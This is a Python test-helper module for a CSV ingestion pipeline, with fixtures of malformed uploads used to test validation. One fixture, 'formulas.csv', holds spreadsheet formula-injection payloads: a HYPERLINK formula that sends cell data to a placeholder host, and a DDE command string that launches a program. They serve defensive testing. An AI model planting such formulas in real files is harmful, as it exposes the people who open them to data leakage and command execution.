"""Test helpers: the rules on a few rows, and manifests + staged files for whole runs."""

from __future__ import annotations

import csv
import hashlib
import json
from decimal import Decimal
from pathlib import Path

import pyarrow as pa

from csv_ingest.contract.documents import parse_manifest
from csv_ingest.engine import rules
from csv_ingest.io import storage

REPO = Path(__file__).resolve().parents[2]
FIXTURES = Path(__file__).resolve().parent / "fixtures"
VECTORS = REPO / "packages" / "core" / "src" / "manifest" / "examples"
PROCESSING_DATE = "2026-04-01T10:00:30.000Z"


def run_rules(rows, source_file="input/test.csv", date_formats=rules.DEFAULT_DATE_FORMATS):
    """rules.process on rows of (id, name, email, date, amount, status) raw strings or None (line numbers from 2):
    the processed rows as dicts in line order, amounts and running totals as Decimal."""
    raw = {c: pa.array([r[i] for r in rows], pa.string()) for i, c in enumerate(rules.REQUIRED_COLUMNS)}
    lines = pa.array(range(2, len(rows) + 2), pa.int64())
    out = rules.process(raw, lines, source_file, PROCESSING_DATE, date_formats).table.to_pylist()
    for r in out:
        for c in ("amount", "running_total_by_status"):
            r[c] = None if r[c] is None else Decimal(r[c])
    return out


def row(id_="1", name="Ann Lee", email="ann@example.com", date="01-04-2025", amount="10", status="active"):
    return (id_, name, email, date, amount, status)


def stage_run(tmp_path: Path, files: dict[str, bytes], run_key: str = "RUN1") -> dict:
    """Stages `files` under input/ and writes a manifest naming them; returns the paths and URIs of the run."""
    stage = tmp_path / "stage"
    out = tmp_path / "out"
    uploads = []
    for i, (name, data) in enumerate(files.items()):
        path = stage / "input" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        stem = name.removesuffix(".csv")
        uploads.append(
            {
                "uploadId": f"bucket/input/{name}@T{i}",
                "key": f"input/{name}",
                "versionId": None,
                "etag": hashlib.md5(data, usedforsecurity=False).hexdigest(),
                "lastModified": "2026-04-01T09:00:00.000Z",
                "size": len(data),
                "outputPrefix": f"processed/{stem}/v=T{i}/",
                "rejectedPrefix": f"rejected/{stem}/v=T{i}/",
                "parquetPrefix": f"parquet/ingest_date=2026-04-01/{stem}/v=T{i}/",
            }
        )
    doc = {
        "format": "csv-ingest-manifest/1",
        "runKey": run_key,
        "createdAt": "2026-04-01T10:00:00.000Z",
        "bucket": "bucket",
        "statsKey": f"stats/runs/{run_key}.json",
        "fileStatsKey": f"stats/files/ingest_date=2026-04-01/{run_key}.jsonl",
        "uploads": uploads,
    }
    manifest_path = tmp_path / "manifest.json"
    manifest_path.write_text(json.dumps(doc), encoding="utf-8")
    return {
        "manifest": parse_manifest(json.dumps(doc), str(manifest_path)),
        "manifest_uri": storage.local_uri(manifest_path),
        "data_root": storage.local_uri(stage) + "/",
        "output_root": storage.local_uri(out) + "/",
        "out": out,
    }


def read_output(folder: Path) -> list[list[str]]:
    """The CSV rows (header first) of a finished output folder; fails if it is not finished or has several parts."""
    assert (folder / "_SUCCESS").exists(), f"{folder} has no _SUCCESS"
    parts = sorted(folder.glob("part-*.csv"))
    assert len(parts) == 1, f"{folder}: expected one part file, found {len(parts)}"
    with parts[0].open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def output_text(folder: Path) -> str:
    parts = sorted(folder.glob("part-*.csv"))
    assert len(parts) == 1
    return parts[0].read_text(encoding="utf-8")


HEADER = b"id,name,email,date,amount,status\n"
# Messy uploads of one run (see test_messy_files.py for what each must become).
MESSY_FILES = {
    "bom_crlf_quotes.csv": (
        "\ufeffid,name,email,date,amount,status\r\n"
        '1,"Smith, John",john@example.com,01-04-2025,"$1,234.50",active\r\n'
        '2,"Jane ""JJ"" Doe",jane@example.com,2025-04-02,-20,active\r\n'
        "3,Zoë Ñúñez,zoe@example.com,31-02-2025,,pending\r\n"
        "4,李 小龍,li@example.com,02-04-2025,abc,pending\r\n"
    ).encode(),
    "fields.csv": HEADER
    + b"1,A B,a@example.com,01-04-2025,10,active\n"
    + b"2,C D,c@example.com\n"
    + b"\n"
    + b"3,E F,e@example.com,01-04-2025,10,active,extra\n"
    + b"4,G H,g@example.com,01-04-2025,10,active\n",
    "missing_col.csv": b"id,name,email,date,status\n1,A,a@example.com,01-04-2025,active\n",
    "empty.csv": b"",
    "header_only.csv": HEADER,
    "latin1.csv": HEADER
    + b"1,Ren\xe9 Dupont,r@example.com,01-04-2025,10,active\n"
    + b"2,Ann Lee,a@example.com,01-04-2025,10,active\n",
    "binary.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "reordered.csv": b"Status, Amount ,extra,ID,date,email,name\nactive,5,x,9,01-04-2025,r@example.com,reo rdr\n",
    "multiline.csv": HEADER
    + b'1,"Ann\nLee",a@example.com,01-04-2025,10,active\n'
    + b'2,"Bob ""B""\r\nKing",b@example.com,01-04-2025,"1,000",active\n'
    + b'3,"stray quote,c@example.com,01-04-2025,10,active\n'
    + b"4,Cy Dee,c@example.com,01-04-2025,10,active\n",
    "formulas.csv": HEADER
    + b'=HYPERLINK("http://x.example/?a"&A1;"click"),@SUM(1+1),+cmd@example.com,01-04-2025,-12.5,=1+1\n'
    + b"-2+3,ann,a@example.com,01-04-2025,10,active\n"
    + b"=cmd|' /C calc'!A0,x\n",
    "dups.csv": HEADER
    + b"1,A,a@example.com,01-04-2025,10,active\n"
    + b"1,A,a@example.com,01-04-2025,10,active\n"
    + b"2,B,b@example.com,01-04-2025,20,active\n"
    + b"2,B2,b@example.com,01-04-2025,20,active\n"
    + b"3, C ,c@example.com,2025-04-01,30.00,ACTIVE\n"
    + b"3,C,c@example.com,01-04-2025,30,active\n",
}
